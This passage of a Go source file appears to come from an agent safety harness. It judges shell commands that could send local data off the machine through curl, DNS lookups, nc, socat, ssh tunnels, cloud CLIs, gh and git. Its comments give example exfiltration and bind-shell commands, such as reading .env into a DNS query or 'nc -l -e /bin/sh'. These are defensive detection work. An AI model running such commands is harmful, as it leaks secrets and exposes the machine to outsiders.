@@ -1,0 +1,868 @@
+package classify
+
+import (
+	"path"
+	"strings"
+
+	"github.com/oath-harness/oath-harness/internal/classify/shell"
+	"github.com/oath-harness/oath-harness/internal/mask"
+	"github.com/oath-harness/oath-harness/internal/risk"
+)
+
+// Outbound data (issue 12, item 3). Every channel that sends data off the machine is judged by
+// what it can carry, not by its name: it is critical when it can carry local data to another
+// machine, whatever the trust —
+//
+//   - a value computed at run time in what it sends: a command substitution or a variable
+//     whose value is not known statically (dig $(cat .env).x.com, ssh h "echo $T");
+//   - a file it uploads (curl -T/-F @/-d @file, wget --post-file, scp or rsync of a local file
+//     to a remote, gh gist create, aws s3 cp to a bucket …), or its standard input fed from a
+//     pipe or a file (cat .env | nc h 80, ssh h 'cat > x' < .env), or a here-document with a
+//     value computed at run time;
+//   - a secret-shaped string (mask.String changes it) in what it sends, or anywhere in a
+//     program that sends something off the machine;
+//   - an opaque token (encoded data, a key) in a URL or a host name it asks for (urldata.go);
+//   - by its nature: an ssh tunnel (-R, -L, -D, -w and their -o forms: a local address then
+//     leads to another machine, or this machine's ports are opened to it), a listener that
+//     serves a program or local data to whoever connects (nc -l -e sh, socat TCP-LISTEN
+//     EXEC:…), git push to a URL or to a remote this program has just pointed somewhere,
+//     git send-email and imap-send (mail), git daemon (serves the repositories).
+//
+// A channel that cannot carry local data keeps its own rule's risk (ssh host uptime stays
+// high, dig example.com medium, a WebFetch of a docs page medium). A destination on this
+// machine (localhost, 127.0.0.0/8, ::1) is not outbound.
+//
+// The table below has one row per channel family; each row says what a command sends and
+// where. WebFetch, WebSearch and MCP tools are judged in classify.go with the same tests
+// (urlCarries, mask).
+
+// Rule ids of outbound data.
+const (
+	ruleOutboundData = "outbound_data"    // a channel to another machine carries local data
+	ruleDNSData      = "dns_exfiltration" // a name looked up (DNS, whois) carries local data
+	ruleTunnel       = "outbound_tunnel"  // a tunnel or a listener opens this machine to another
+	ruleGitNewRemote = "git_push_new_remote"
+	ruleMailer       = "mail_sender" // the seed's mail senders, git send-email among them
+)
+
+// channel is one row of the outbound table.
+type channel struct {
+	names []string
+	rule  string
+	sends func(x *cmdCtx) sent
+}
+
+// sent is what one command sends off the machine.
+type sent struct {
+	none   bool         // this use is not a channel (a subcommand that stays local)
+	hosts  []shell.Word // where it goes; an unknown host is another machine
+	words  []shell.Word // what it sends: judged for run-time values and secrets
+	names  []shell.Word // URLs and names it asks for: judged also for opaque tokens
+	files  []shell.Word // local files it sends
+	stdin  bool         // it sends its standard input
+	always string       // it carries local data by its nature: why
+}
+
+// channels is the outbound table.
+var channels = [...]channel{
+	{[]string{"curl", "wget", "wget2", "http", "https", "xh", "xhs", "httpie", "curlie"}, ruleOutboundData, httpSends},
+	{[]string{"dig", "nslookup", "host", "drill", "delv", "kdig", "getent", "ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "resolvectl", "systemd-resolve", "avahi-resolve", "avahi-resolve-host-name", "nmap"}, ruleDNSData, dnsSends},
+	{[]string{"whois"}, ruleDNSData, whoisSends},
+	{[]string{"nc", "ncat", "netcat", "socat", "telnet"}, ruleTunnel, socketSends},
+	{[]string{"ssh", "autossh"}, ruleOutboundData, sshSends},
+	{[]string{"scp", "sftp", "rsync", "rclone"}, ruleOutboundData, copySends},
+	{[]string{"aws", "gsutil", "gcloud", "az", "s3cmd", "azcopy"}, ruleOutboundData, cloudSends},
+	{[]string{"gh"}, ruleOutboundData, ghSends},
+	{[]string{"git"}, ruleOutboundData, gitSends},
+}
+
+// outbound judges one command against the outbound table.
+func (x *cmdCtx) outbound() {
+	for i := range channels {
+		ch := &channels[i]
+		for _, n := range ch.names {
+			if n == x.name {
+				x.judgeSent(ch.rule, ch.sends(x))
+				return
+			}
+		}
+	}
+}
+
+func (x *cmdCtx) judgeSent(rule string, s sent) {
+	if s.none {
+		return
+	}
+	local := len(s.hosts) > 0
+	for _, h := range s.hosts {
+		if !h.Known || !localHost(hostOf(h.Value)) {
+			local = false
+		}
+	}
+	if local {
+		return
+	}
+	x.r.sends = true
+	to := "another machine"
+	if len(s.hosts) > 0 && s.hosts[0].Known && s.hosts[0].Value != "" {
+		to = hostOf(s.hosts[0].Value)
+	}
+	crit := func(why string) {
+		x.add(risk.Critical, ShellExec, rule, x.name+" "+why+" to "+to+": local data would leave the machine, so no trust may run it")
+	}
+	switch {
+	case s.always != "":
+		x.add(risk.Critical, ShellExec, rule, x.name+" "+s.always+": local data would leave the machine, so no trust may run it")
+		return
+	case len(s.files) > 0:
+		crit("uploads " + quoteRaw(s.files[0].Value))
+		return
+	case s.stdin && (x.cmd.Input == "pipe" || x.cmd.Input == "file" || x.cmd.Input == "catfile"):
+		crit("sends what is piped or redirected into it")
+		return
+	case s.stdin && x.cmd.Input == "heredoc" && strings.Contains(x.cmd.Feed, shell.Dyn):
+		crit("sends a here-document with a value computed at run time")
+		return
+	case s.stdin && x.cmd.Input == "heredoc" && mask.String(x.cmd.Feed) != x.cmd.Feed:
+		crit("sends a here-document with a secret-shaped string")
+		return
+	}
+	for _, w := range append(append(append([]shell.Word{}, s.hosts...), s.names...), s.words...) {
+		if !w.Known {
+			crit("sends " + quoteRaw(w.Value) + ", a value computed at run time (a command substitution or a variable)")
+			return
+		}
+		if mask.String(w.Value) != w.Value {
+			crit("sends a secret-shaped string")
+			return
+		}
+	}
+	for _, w := range s.names {
+		if why := urlCarries(w.Value); why != "" {
+			crit("asks for " + quoteRaw(w.Value) + ": " + why + ",")
+			return
+		}
+	}
+}
+
+// hostOf returns the host of a URL, an scp-like address (user@host:path) or a host[:port].
+func hostOf(v string) string {
+	if strings.Contains(v, "://") {
+		if h := urlHost(v); h != "" {
+			return h
+		}
+	}
+	if h := remoteHost(v); h != "" {
+		return h
+	}
+	if j := strings.LastIndexByte(v, '@'); j >= 0 {
+		v = v[j+1:]
+	}
+	if strings.Count(v, ":") == 1 {
+		v, _, _ = strings.Cut(v, ":")
+	}
+	return strings.Trim(v, "[]")
+}
+
+// outboundProgram: a secret-shaped string anywhere in a program that sends something off the
+// machine (a heredoc, a variable assigned before the call) may be what is sent.
+func (r *result) outboundProgram(src string) {
+	if r.sends && mask.String(src) != src {
+		r.add(risk.Critical, ShellExec, ruleOutboundData, clipText(src), "the program sends data off the machine and holds a secret-shaped string: the secret may be what is sent, so no trust may run it")
+	}
+}
+
+// Options of curl and wget that take a value (fetch reads them too).
+const (
+	curlShort = "HdXouAeFbcTwmxKErCYyzUQtPDh"
+	wgetShort = "OoaPUetTwQlARDXIiB"
+)
+
+var (
+	curlLong = []string{"header", "data", "data-raw", "data-binary", "data-urlencode", "data-ascii", "request", "output", "user", "user-agent", "referer", "form", "form-string", "cookie", "cookie-jar", "upload-file", "write-out", "max-time", "connect-timeout", "proxy", "config", "cert", "key", "retry", "url", "resolve", "connect-to", "preproxy", "socks4", "socks4a", "socks5", "socks5-hostname", "cacert", "capath", "dump-header", "limit-rate", "max-filesize", "interface", "unix-socket", "json", "output-dir", "mail-from", "mail-rcpt", "url-query"}
+	wgetLong = []string{"output-document", "output-file", "append-output", "directory-prefix", "user-agent", "header", "post-data", "post-file", "body-data", "body-file", "method", "user", "password", "tries", "timeout", "wait", "input-file", "execute", "base"}
+)
+
+// httpSends: curl and wget are critical to any address that is not local (the seed's rule, in
+// fetch); this row says what they upload, for the reason.
+func httpSends(x *cmdCtx) sent {
+	var s sent
+	file := func(v shell.Word, at string) {
+		val := v.Value
+		if k := strings.Index(val, at); k >= 0 && (at != "@" || k == 0 || strings.Contains(val[:k], "=") || !strings.ContainsAny(val[:k], "/.")) {
+			f := val[k+len(at):]
+			if i := strings.IndexByte(f, ';'); i >= 0 {
+				f = f[:i] // curl -F 'f=@x;type=text/plain'
+			}
+			switch {
+			case f == "-":
+				s.stdin = true
+			case f != "":
+				s.files = append(s.files, shell.Word{Value: f, Known: v.Known})
+			}
+		}
+	}
+	switch x.name {
+	case "curl", "curlie":
+		p := parseArgs(x.args, curlShort, curlLong...)
+		for _, k := range []string{"d", "data", "data-binary", "data-ascii", "json", "data-urlencode"} {
+			if v, ok := p.val[k]; ok {
+				file(v, "@")
+				s.words = append(s.words, v)
+			}
+		}
+		for _, k := range []string{"F", "form"} {
+			if v, ok := p.val[k]; ok {
+				file(v, "=@")
+				file(v, "=<")
+			}
+		}
+		if v, ok := p.value("T", "upload-file"); ok {
+			if v.Value == "-" || v.Value == "." {
+				s.stdin = true
+			} else {
+				s.files = append(s.files, v)
+			}
+		}
+		s.names = urlOperands(p)
+	case "wget", "wget2":
+		p := parseArgs(x.args, wgetShort, wgetLong...)
+		if v, ok := p.value("post-file", "body-file"); ok {
+			s.files = append(s.files, v)
+		}
+		s.names = urlOperands(p)
+	default: // httpie and kin: a@file, a=@file, a:=@file, @file; stdin is the body when piped
+		s.stdin = true
+		for _, a := range x.args {
+			if strings.HasPrefix(a.Value, "-") {
+				continue
+			}
+			switch {
+			case strings.HasPrefix(a.Value, "@"):
+				file(a, "@")
+			case strings.Contains(a.Value, "=@"):
+				file(a, "=@")
+			case strings.Contains(a.Value, "@") && !strings.Contains(a.Value, "://") && !strings.Contains(a.Value, "="):
+				file(a, "@")
+			}
+			if strings.Contains(a.Value, "://") || strings.Contains(a.Value, ".") && !strings.Contains(a.Value, "=") && !strings.Contains(a.Value, ":") {
+				s.names = append(s.names, a)
+			}
+		}
+	}
+	s.hosts = s.names
+	if len(s.hosts) == 0 {
+		s.none = true
+	}
+	return s
+}
+
+func urlOperands(p parsed) []shell.Word {
+	urls := append([]shell.Word{}, p.operands...)
+	if u, ok := p.value("url"); ok {
+		urls = append(urls, u)
+	}
+	return urls
+}
+
+// dnsSends: a lookup sends the name it looks up to a resolver (and ping sends its -p pattern
+// to the host): a name built at run time, or holding a secret or encoded data, is a message.
+func dnsSends(x *cmdCtx) sent {
+	var s sent
+	n := x.name
+	args := x.args
+	switch n {
+	case "getent":
+		if len(args) == 0 || !strings.HasPrefix(args[0].Value, "hosts") && !strings.HasPrefix(args[0].Value, "ahosts") {
+			return sent{none: true}
+		}
+		args = args[1:]
+	case "resolvectl":
+		if len(args) == 0 || args[0].Value != "query" {
+			return sent{none: true}
+		}
+		args = args[1:]
+	}
+	short := map[string]string{"dig": "bcfkpqtxy", "host": "cNRtWm", "drill": "ckoprstfvy", "delv": "abcpqtx", "kdig": "bcfkpqtxyE",
+		"ping": "cisIWwtlpQmMSTFw", "ping6": "cisIWwtlpQmMSTFw", "traceroute": "fgimNpstwqzA", "traceroute6": "fgimNpstwqzA",
+		"tracepath": "lmp", "mtr": "abBcsiIfmGQPo", "nmap": "opDeSiIgM"}[n]
+	p := parseArgs(args, short)
+	for _, o := range p.operands {
+		v := o.Value
+		if o.Known && (strings.HasPrefix(v, "+") || v == "any" || v == "txt" || v == "TXT" || v == "A" || v == "AAAA" || v == "MX" || v == "NS" || v == "IN") {
+			continue
+		}
+		if strings.HasPrefix(v, "@") && o.Known {
+			continue // dig @server
+		}
+		s.names = append(s.names, shell.Word{Value: strings.TrimPrefix(v, "@"), Known: o.Known})
+	}
+	for _, k := range []string{"q", "x"} {
+		if v, ok := p.val[k]; ok && (n == "dig" || n == "kdig") {
+			s.names = append(s.names, v)
+		}
+	}
+	if v, ok := p.val["f"]; ok && (n == "dig" || n == "kdig") {
+		s.files = append(s.files, v) // dig -f file: every line is looked up
+	}
+	if v, ok := p.val["p"]; ok && (n == "ping" || n == "ping6") {
+		s.words = append(s.words, v) // the pattern padding each packet
+	}
+	for _, a := range args {
+		if strings.HasPrefix(a.Value, "-") && strings.Contains(a.Value, "=") && !a.Known {
+			s.words = append(s.words, a) // nslookup -type=$X
+		}
+	}
+	if len(s.names) == 0 && len(s.files) == 0 {
+		return sent{none: true}
+	}
+	s.hosts = s.names
+	if len(s.hosts) == 0 {
+		s.hosts = []shell.Word{{Value: "a DNS resolver"}}
+	}
+	return s
+}
+
+// whoisSends: whois sends its query to a whois server (whois -h HOST: any server).
+func whoisSends(x *cmdCtx) sent {
+	p := parseArgs(x.args, "hpi")
+	s := sent{names: p.operands}
+	if h, ok := p.value("h"); ok {
+		s.hosts = []shell.Word{h}
+		s.words = p.operands
+		s.names = nil
+	} else {
+		s.hosts = append(s.hosts, shell.Word{Value: "a whois server", Known: true})
+	}
+	if len(p.operands) == 0 {
+		s.none = true
+	}
+	return s
+}
+
+// socketSends: nc, ncat, socat and telnet to another machine are critical already (rawNet);
+// what this row adds is the listener that serves a program or local data to whoever connects
+// (a bind shell: nc -l -e /bin/sh), and the reason for data piped to a remote.
+func socketSends(x *cmdCtx) sent {
+	if x.name == "socat" {
+		return socatSends(x)
+	}
+	p := parseArgs(x.args, "psqwixXeIOPTVcob", "proxy", "source", "exec", "sh-exec", "lua-exec", "wait", "idle-timeout")
+	listen := p.has('l', "listen")
+	_, runs := p.value("e", "c", "exec", "sh-exec", "lua-exec")
+	s := sent{stdin: true}
+	switch {
+	case listen:
+		bind := shell.Word{Value: "0.0.0.0", Known: true}
+		if v, ok := p.value("s", "source"); ok {
+			bind = v
+		}
+		for _, o := range p.operands {
+			if o.Known && !allDigits(o.Value) {
+				bind = o // nc -l 127.0.0.1 8080
+			}
+		}
+		s.hosts = []shell.Word{bind}
+		if runs {
+			s.always = "listens and serves a program (a shell) to whoever connects"
+		} else if x.cmd.Input == "pipe" || x.cmd.Input == "file" || x.cmd.Input == "catfile" {
+			s.always = "listens and serves what is piped or redirected into it to whoever connects"
+		}
+		if s.always != "" && (!bind.Known || !localHost(bind.Value)) {
+			return s
+		}
+		return sent{none: true}
+	case len(p.operands) > 0:
+		s.hosts = []shell.Word{p.operands[0]}
+		if runs {
+			s.always = "connects a program (a shell) to " + p.operands[0].Value
+		}
+		return s
+	}
+	return sent{none: true}
+}
+
+// socatSends: a LISTEN address beside an EXEC/SYSTEM address serves a program; beside a file
+// or stdio it serves local data.
+func socatSends(x *cmdCtx) sent {
+	listen, serve, bind := false, "", shell.Word{Value: "0.0.0.0", Known: true}
+	for _, a := range x.args {
+		if strings.HasPrefix(a.Value, "-") && a.Value != "-" {
+			continue
+		}
+		u := strings.ToUpper(a.Value)
+		kind, opts, _ := strings.Cut(u, ",")
+		switch {
+		case strings.Contains(kind, "LISTEN") && !strings.HasPrefix(kind, "UNIX") && !strings.HasPrefix(kind, "ABSTRACT"):
+			listen = true
+			if _, b, ok := strings.Cut(opts, "BIND="); ok {
+				b, _, _ = strings.Cut(b, ",")
+				bind = shell.Word{Value: strings.ToLower(b), Known: a.Known}
+			}
+		case strings.HasPrefix(kind, "EXEC:") || strings.HasPrefix(kind, "SYSTEM:"):
+			serve = "serves a program (" + a.Value + ") to whoever connects"
+		case strings.HasPrefix(kind, "FILE:") || strings.HasPrefix(kind, "OPEN:") || strings.HasPrefix(kind, "GOPEN:") || kind == "-" || kind == "STDIO" || kind == "STDIN":
+			if serve == "" {
+				serve = "serves local data (" + a.Value + ") to whoever connects"
+			}
+		}
+	}
+	if !listen || serve == "" || bind.Known && localHost(bind.Value) {
+		return sent{none: true}
+	}
+	return sent{hosts: []shell.Word{bind}, always: "listens and " + serve}
+}
+
+// sshSends: a tunnel carries whatever later calls send through it; the remote command and the
+// standard input are sent to the host.
+func sshSends(x *cmdCtx) sent {
+	p := parseArgs(x.args, "BbcDEeFIiJLlmOoPpQRSWw")
+	if len(p.operands) == 0 {
+		return sent{none: true}
+	}
+	s := sent{hosts: p.operands[:1], words: p.operands[1:], stdin: !p.has('n') && !p.has('f')}
+	for _, t := range []struct {
+		opt byte
+		why string
+	}{{'R', "-R opens this machine's ports to the remote"}, {'L', "-L makes a local port lead to another machine (a later call to a local address leaves it)"},
+		{'D', "-D opens a SOCKS proxy through the remote (a later call to a local address leaves the machine)"}, {'w', "-w opens a network tunnel device to the remote"}} {
+		if _, ok := p.value(string(t.opt)); ok {
+			s.always = "opens a tunnel: " + t.why
+		}
+	}
+	for i, a := range x.args {
+		v := a.Value
+		if v == "-o" && i+1 < len(x.args) {
+			v = x.args[i+1].Value
+		} else if o, ok := strings.CutPrefix(v, "-o"); ok && o != "" {
+			v = o
+		} else {
+			continue
+		}
+		k, _, _ := strings.Cut(strings.TrimSpace(v), "=")
+		k, _, _ = strings.Cut(k, " ")
+		switch strings.ToLower(k) {
+		case "localforward", "remoteforward", "dynamicforward", "tunnel", "tunneldevice":
+			s.always = "opens a tunnel (-o " + v + ")"
+		}
+	}
+	return s
+}
+
+// copySends: scp, rsync and rclone of a local file to another machine upload it; sftp with a
+// batch of commands (-b, a pipe, a here-document) may put files.
+func copySends(x *cmdCtx) sent {
+	var p parsed
+	args := x.args
+	switch x.name {
+	case "sftp":
+		p = parseArgs(args, "BbcDFiJlPRSs")
+		if len(p.operands) == 0 {
+			return sent{none: true}
+		}
+		s := sent{hosts: []shell.Word{{Value: remoteHostOr(p.operands[0]), Known: p.operands[0].Known}}}
+		if b, ok := p.value("b"); ok {
+			s.always = "runs the batch of commands in " + b.Value + ", which may put files, against " + s.hosts[0].Value
+		} else if x.cmd.Input != "" {
+			s.always = "takes commands (put among them) from its input, against " + s.hosts[0].Value
+		}
+		if s.always == "" {
+			return sent{none: true}
+		}
+		return s
+	case "rclone":
+		if len(args) == 0 {
+			return sent{none: true}
+		}
+		switch args[0].Value {
+		case "copy", "copyto", "sync", "move", "moveto", "bisync", "rcat":
+		default:
+			return sent{none: true}
+		}
+		p = parseArgs(args[1:], "")
+		if args[0].Value == "rcat" && len(p.operands) > 0 {
+			return sent{hosts: p.operands, stdin: true}
+		}
+	case "rsync":
+		p = parseArgs(args, "efT", "rsh", "filter", "exclude", "include", "rsync-path", "temp-dir", "exclude-from", "include-from", "files-from", "password-file", "log-file")
+	default:
+		p = parseArgs(args, "cFiJloPSDXB")
+	}
+	if len(p.operands) < 2 {
+		return sent{none: true}
+	}
+	dest := p.operands[len(p.operands)-1]
+	dh := remoteHost(dest.Value)
+	if x.name == "rclone" && dh == "" && rcloneRemote(dest.Value) {
+		dh = "remote storage " + strings.SplitN(dest.Value, ":", 2)[0]
+	}
+	if dest.Known && dh == "" {
+		return sent{none: true} // a local destination: a copy on this machine (or a download)
+	}
+	s := sent{hosts: []shell.Word{{Value: dh, Known: dest.Known}}}
+	if !dest.Known {
+		s.hosts[0].Value = dest.Value
+	}
+	for _, src := range p.operands[:len(p.operands)-1] {
+		if !src.Known || remoteHost(src.Value) == "" && !(x.name == "rclone" && rcloneRemote(src.Value)) {
+			s.files = append(s.files, src)
+		}
+	}
+	if len(s.files) == 0 {
+		return sent{none: true} // remote to remote
+	}
+	return s
+}
+
+// rcloneRemote: an rclone path on a configured remote (name:path), not a local path.
+func rcloneRemote(v string) bool {
+	name, _, ok := strings.Cut(v, ":")
+	return ok && name != "" && !strings.ContainsAny(name, "/\\.") && len(name) > 1
+}
+
+func remoteHostOr(w shell.Word) string {
+	if h := remoteHost(w.Value); h != "" {
+		return h
+	}
+	v := w.Value
+	if j := strings.LastIndexByte(v, '@'); j >= 0 {
+		v = v[j+1:]
+	}
+	return v
+}
+
+// cloudSends: copying a local file to cloud storage uploads it (aws s3 cp/mv/sync, gsutil
+// cp/mv/rsync, gcloud storage cp/mv/rsync, az storage blob upload, s3cmd put/sync, azcopy).
+func cloudSends(x *cmdCtx) sent {
+	// The positional words, options and their values left out (gsutil -o/-h take one; a long
+	// option takes the next word unless it is a known flag).
+	var pos []shell.Word
+	for i := 0; i < len(x.args); i++ {
+		a := x.args[i]
+		v := a.Value
+		switch {
+		case !a.Known || !strings.HasPrefix(v, "-"):
+			pos = append(pos, a)
+		case strings.HasPrefix(v, "--") && !strings.Contains(v, "=") && !cloudFlag(v) && i+1 < len(x.args) && !strings.HasPrefix(x.args[i+1].Value, "-"):
+			i++
+		case x.name == "gsutil" && (v == "-o" || v == "-h") && len(pos) == 0:
+			i++
+		}
+	}
+	sub := func(n int) string {
+		if len(pos) > n {
+			return pos[n].Value
+		}
+		return ""
+	}
+	var o []shell.Word
+	switch {
+	case x.name == "aws" && sub(0) == "s3" && (sub(1) == "cp" || sub(1) == "mv" || sub(1) == "sync"):
+		o = pos[2:]
+	case x.name == "gsutil" && (sub(0) == "cp" || sub(0) == "mv" || sub(0) == "rsync"):
+		o = pos[1:]
+	case x.name == "gcloud" && sub(0) == "storage" && (sub(1) == "cp" || sub(1) == "mv" || sub(1) == "rsync"):
+		o = pos[2:]
+	case x.name == "s3cmd" && (sub(0) == "put" || sub(0) == "sync"):
+		o = pos[1:]
+	case x.name == "azcopy" && (sub(0) == "copy" || sub(0) == "cp" || sub(0) == "sync"):
+		o = pos[1:]
+	case x.name == "az" && sub(0) == "storage" && strings.HasPrefix(sub(2), "upload"):
+		p := parseArgs(x.args, "fsdcn", "file", "source", "destination", "container-name", "name", "account-name")
+		if f, ok := p.value("f", "file", "s", "source"); ok {
+			return sent{hosts: []shell.Word{{Value: "Azure storage", Known: true}}, files: []shell.Word{f}}
+		}
+		return sent{none: true}
+	case x.name == "aws" && sub(0) == "s3api" && sub(1) == "put-object":
+		p := parseArgs(x.args, "", "body", "bucket", "key")
+		if f, ok := p.value("body"); ok {
+			return sent{hosts: []shell.Word{{Value: "S3", Known: true}}, files: []shell.Word{f}}
+		}
+		return sent{none: true}
+	default:
+		return sent{none: true}
+	}
+	if len(o) < 2 {
+		return sent{none: true}
+	}
+	dest := o[len(o)-1]
+	if dest.Known && !strings.Contains(dest.Value, "://") {
+		return sent{none: true} // a download
+	}
+	s := sent{hosts: []shell.Word{{Value: urlHostOr(dest.Value), Known: dest.Known}}}
+	for _, src := range o[:len(o)-1] {
+		if !src.Known || !strings.Contains(src.Value, "://") {
+			s.files = append(s.files, src)
+		}
+	}
+	if len(s.files) == 0 {
+		return sent{none: true}
+	}
+	return s
+}
+
+// cloudFlag: long options of the cloud CLIs that take no value.
+func cloudFlag(v string) bool {
+	switch v {
+	case "--recursive", "--dryrun", "--dry-run", "--quiet", "--no-progress", "--delete", "--exact-timestamps", "--follow-symlinks",
+		"--no-follow-symlinks", "--only-show-errors", "--size-only", "--no-guess-mime-type", "--debug", "--no-sign-request",
+		"--no-verify-ssl", "--no-paginate", "--force", "--no-clobber", "--preserve", "--recursive=true":
+		return true
+	}
+	return false
+}
+
+func urlHostOr(v string) string {
+	if h := urlHost(v); h != "" {
+		return h
+	}
+	return v
+}
+
+// urlHost returns the host of a URL (s3://bucket/key: the bucket), or "".
+func urlHost(v string) string {
+	_, rest, ok := strings.Cut(v, "://")
+	if !ok {
+		return ""
+	}
+	h, _, _ := strings.Cut(rest, "/")
+	if j := strings.LastIndexByte(h, '@'); j >= 0 {
+		h = h[j+1:]
+	}
+	if k := strings.LastIndexByte(h, ':'); k > 0 && !strings.HasSuffix(h, "]") {
+		h = h[:k]
+	}
+	return strings.Trim(h, "[]")
+}
+
+// ghSends: gh sends files and text to GitHub: a gist, an API call with @file or --input, an
+// issue, pull request or release body from a file or a value computed at run time.
+func ghSends(x *cmdCtx) sent {
+	s := sent{hosts: []shell.Word{{Value: "github.com", Known: true}}}
+	args := x.args
+	sub := func(n int) string {
+		if len(args) > n {
+			return args[n].Value
+		}
+		return ""
+	}
+	switch {
+	case sub(0) == "gist" && (sub(1) == "create" || sub(1) == "new" || sub(1) == "edit"):
+		p := parseArgs(args[2:], "dfw", "desc", "filename", "add")
+		s.files = p.operands
+		if f, ok := p.value("a", "add"); ok {
+			s.files = append(s.files, f)
+		}
+		if sub(1) == "edit" && len(s.files) > 0 {
+			s.files = s.files[1:] // the gist's id
+		}
+		if len(s.files) == 0 {
+			s.stdin = true
+		}
+		for i, f := range s.files {
+			if f.Value == "-" {
+				s.stdin = true
+				s.files = append(s.files[:i:i], s.files[i+1:]...)
+				break
+			}
+		}
+	case sub(0) == "api":
+		p := parseArgs(args[1:], "FfHXqt", "field", "raw-field", "header", "method", "input", "jq", "template", "hostname", "preview", "cache")
+		for i := 1; i < len(args); i++ {
+			v := args[i].Value
+			if (v == "-F" || v == "--field" || v == "-f" || v == "--raw-field") && i+1 < len(args) {
+				f := args[i+1]
+				s.words = append(s.words, f)
+				if _, val, ok := strings.Cut(f.Value, "=@"); ok && v != "-f" && v != "--raw-field" {
+					s.files = append(s.files, shell.Word{Value: val, Known: f.Known})
+				}
+				i++
+			}
+		}
+		if in, ok := p.value("input"); ok {
+			if in.Value == "-" {
+				s.stdin = true
+			} else {
+				s.files = append(s.files, in)
+			}
+		}
+	case (sub(0) == "issue" || sub(0) == "pr" || sub(0) == "release") && (sub(1) == "create" || sub(1) == "comment" || sub(1) == "edit" || sub(1) == "review" || sub(1) == "new"):
+		for i := 2; i < len(args); i++ {
+			v := args[i].Value
+			switch {
+			case (v == "-F" || v == "--body-file" || v == "--notes-file") && i+1 < len(args):
+				if args[i+1].Value == "-" {
+					s.stdin = true
+				} else {
+					s.files = append(s.files, args[i+1])
+				}
+				i++
+			case (v == "-b" || v == "--body" || v == "-t" || v == "--title" || v == "-n" || v == "--notes") && i+1 < len(args):
+				s.words = append(s.words, args[i+1])
+				i++
+			case strings.HasPrefix(v, "--body=") || strings.HasPrefix(v, "--title=") || strings.HasPrefix(v, "--notes="):
+				s.words = append(s.words, args[i])
+			case strings.HasPrefix(v, "--body-file=") || strings.HasPrefix(v, "--notes-file="):
+				_, f, _ := strings.Cut(v, "=")
+				s.files = append(s.files, shell.Word{Value: f, Known: args[i].Known})
+			}
+		}
+	default:
+		return sent{none: true}
+	}
+	return s
+}
+
+// gitSends: git's channels. A push to a URL, or to a remote pointed somewhere earlier in the
+// same program (git remote add/set-url, git config remote.X.url, git -c remote.X.url= or
+// url.X.insteadOf), sends the repository's history to a place no one configured before;
+// send-email and imap-send mail it; daemon serves it. The URLs of fetch, clone, pull and
+// ls-remote are asked for like a WebFetch (urlCarries). A remote pointed by the program is
+// remembered for the pushes after it.
+func gitSends(x *cmdCtx) sent {
+	args := x.args
+	redirect := ""
+	i := 0
+	for ; i < len(args); i++ {
+		v := args[i].Value
+		if (v == "-C" || v == "-c" || v == "--git-dir" || v == "--work-tree" || v == "--namespace") && i+1 < len(args) {
+			if k, val, ok := strings.Cut(strings.ToLower(args[i+1].Value), "="); v == "-c" && ok && gitRedirectKey(k) {
+				redirect = k + "=" + val
+			}
+			i++
+			continue
+		}
+		if !strings.HasPrefix(v, "-") {
+			break
+		}
+	}
+	if i >= len(args) {
+		return sent{none: true}
+	}
+	sub := args[i].Value
+	rest := args[i+1:]
+	p := parseArgs(rest, "oC", "push-option", "receive-pack", "exec", "repo", "upload-pack", "depth", "branch", "origin", "reference", "separate-git-dir", "jobs", "remote", "to", "cc", "bcc", "from", "smtp-server", "template", "filter")
+	switch sub {
+	case "remote":
+		x.gitRemotePointed(p.operands)
+		return sent{none: true}
+	case "config":
+		if len(p.operands) >= 2 && gitRedirectKey(strings.ToLower(p.operands[0].Value)) {
+			x.r.pointRemote(remoteOfKey(p.operands[0].Value), p.operands[1].Value)
+		}
+		return sent{none: true}
+	case "send-email":
+		return sent{hosts: []shell.Word{{Value: "a mail server", Known: true}}, always: "send-email mails patches (the seed's mail senders)"}
+	case "imap-send":
+		return sent{hosts: []shell.Word{{Value: "an IMAP server", Known: true}}, always: "imap-send uploads patches to a mail server"}
+	case "daemon":
+		return sent{hosts: []shell.Word{{Value: "0.0.0.0", Known: true}}, always: "daemon serves the repositories to whoever connects"}
+	case "push", "send-pack":
+		remote := shell.Word{Value: "", Known: true}
+		if r, ok := p.value("repo"); ok {
+			remote = r
+		} else if len(p.operands) > 0 {
+			remote = p.operands[0]
+		}
+		var words []shell.Word
+		if o, ok := p.value("o", "push-option"); ok {
+			words = append(words, o)
+		}
+		s := sent{hosts: []shell.Word{{Value: "the remote", Known: true}}, words: words}
+		switch {
+		case !remote.Known:
+			s.hosts = []shell.Word{remote}
+		case redirect != "":
+			s.always = "push with -c " + redirect + " sends the repository's history to a place that is not a configured remote"
+		case gitURL(remote.Value) && !isLocalURL(gitURLHost(remote.Value)):
+			s.hosts = []shell.Word{{Value: gitURLHost(remote.Value), Known: true}}
+			s.names = []shell.Word{remote}
+			s.always = "push to " + remote.Value + " sends the repository's history to a URL that is not a configured remote"
+		case x.r.remotes[remote.Value] != "":
+			s.always = "push to " + remote.Value + " sends the repository's history to " + x.r.remotes[remote.Value] + ", where this program has just pointed it"
+		case remote.Value == "" && len(x.r.remotes) > 0:
+			s.always = "push sends the repository's history to its default remote, which this program has just pointed elsewhere"
+		}
+		if s.always != "" {
+			s.hosts = []shell.Word{{Value: "another machine", Known: true}}
+		}
+		return s
+	case "fetch", "pull", "clone", "ls-remote", "archive":
+		var urls []shell.Word
+		if u, ok := p.value("remote"); ok && sub == "archive" {
+			urls = append(urls, u)
+		}
+		if sub != "archive" && len(p.operands) > 0 {
+			urls = append(urls, p.operands[0])
+		}
+		s := sent{}
+		for _, u := range urls {
+			if !u.Known || gitURL(u.Value) {
+				s.hosts = append(s.hosts, shell.Word{Value: gitURLHost(u.Value), Known: u.Known})
+				s.names = append(s.names, u)
+			}
+		}
+		if len(s.hosts) == 0 {
+			return sent{none: true}
+		}
+		return s
+	}
+	return sent{none: true}
+}
+
+// gitRedirectKey: configuration that changes where git sends: a remote's URL or push URL, a URL
+// rewrite.
+func gitRedirectKey(k string) bool {
+	return strings.HasPrefix(k, "remote.") && (strings.HasSuffix(k, ".url") || strings.HasSuffix(k, ".pushurl")) ||
+		strings.HasPrefix(k, "url.") && (strings.HasSuffix(k, ".insteadof") || strings.HasSuffix(k, ".pushinsteadof"))
+}
+
+func remoteOfKey(k string) string {
+	k = strings.TrimPrefix(k, "remote.")
+	if i := strings.LastIndexByte(k, '.'); i > 0 {
+		return k[:i]
+	}
+	return k
+}
+
+// gitRemotePointed remembers git remote add/set-url NAME URL (and rename) for later pushes.
